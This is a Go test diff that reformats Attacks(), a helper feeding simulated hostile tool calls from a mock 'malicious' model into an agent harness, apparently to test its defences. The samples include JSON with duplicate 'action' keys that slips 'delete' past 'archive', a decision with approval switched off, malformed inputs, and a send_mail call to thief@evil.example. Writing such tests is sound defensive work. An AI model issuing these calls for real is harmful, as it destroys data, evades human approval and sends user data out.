@@ -135,7 +135,8 @@ func Attacks() []*llm.Response {
 	}
 	var attacks []*llm.Response
 	call := func(name, arguments string) {
-		attacks = append(attacks, &llm.Response{Model: "llmtest::malicious", ToolCalls: []llm.ToolCall{{ID: "call_1", Name: name, Arguments: arguments}}})
+		attacks = append(attacks, &llm.Response{Model: "llmtest::malicious",
+			ToolCalls: []llm.ToolCall{{ID: "call_1", Name: name, Arguments: arguments}}})
 	}
 	decide := func(arguments string) { call(decide.RecordDecision, arguments) }
 	decide(Decision("delete", `{}`, 1))
@@ -148,8 +149,10 @@ func Attacks() []*llm.Response {
 	decide(`{"decision":null}`)
 	decide("")
 	decide("null")
-	decide(`{"decision":{"action":"archive","action":"delete","parameters":{},"confidence":1,"needs_approval":false,"rationale":"x"}}`)
-	decide(`{"decision":{"action":"archive","parameters":{},"confidence":1,"needs_approval":false,"rationale":` + text(string(long)) + `}}`)
+	decide(
+		`{"decision":{"action":"archive","action":"delete","parameters":{},"confidence":1,"needs_approval":false,"rationale":"x"}}`)
+	decide(`{"decision":{"action":"archive","parameters":{},"confidence":1,"needs_approval":false,"rationale":` +
+		text(string(long)) + `}}`)
 	decide("\x00\xff{")
 	call("send_mail", `{"to":"thief@evil.example"}`)
 	call("", "")
